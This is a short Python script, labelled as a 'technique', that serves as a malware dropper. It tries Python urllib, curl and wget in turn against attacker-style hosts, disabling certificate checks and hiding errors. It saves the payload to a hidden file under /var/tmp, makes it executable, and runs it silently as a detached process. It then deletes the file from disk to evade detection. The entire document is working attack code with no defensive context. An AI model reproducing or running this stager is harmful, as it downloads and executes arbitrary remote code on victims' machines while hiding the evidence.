# technique: try several downloaders (python urllib, curl, wget) until one fetches the dropper, then execute it and delete it from disk
import os
import shutil
import subprocess
import urllib.request

URLS = [
    "http://attacker.example/d",
    "http://198.51.100.9/d",
    "http://10.8.0.1:8080/d",
]
OUT = "/var/tmp/.d"


def via_python(u):
    data = urllib.request.urlopen(u, timeout=10).read()
    with open(OUT, "wb") as fh:
        fh.write(data)


def via_curl(u):
    subprocess.check_call(["curl", "-fsSLk", "-o", OUT, u], stderr=subprocess.DEVNULL)


def via_wget(u):
    subprocess.check_call(["wget", "-q", "--no-check-certificate", "-O", OUT, u], stderr=subprocess.DEVNULL)


def fetch():
    methods = [via_python]
    if shutil.which("curl"):
        methods.append(via_curl)
    if shutil.which("wget"):
        methods.append(via_wget)
    for u in URLS:
        for m in methods:
            try:
                m(u)
                if os.path.getsize(OUT) > 0:
                    return True
            except Exception:
                continue
    return False


if fetch():
    os.chmod(OUT, 0o700)
    subprocess.Popen([OUT], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                     stderr=subprocess.DEVNULL, close_fds=True, start_new_session=True)
    # remove the file once the process has it mapped
    import time
    time.sleep(2)
    try:
        os.unlink(OUT)
    except OSError:
        pass
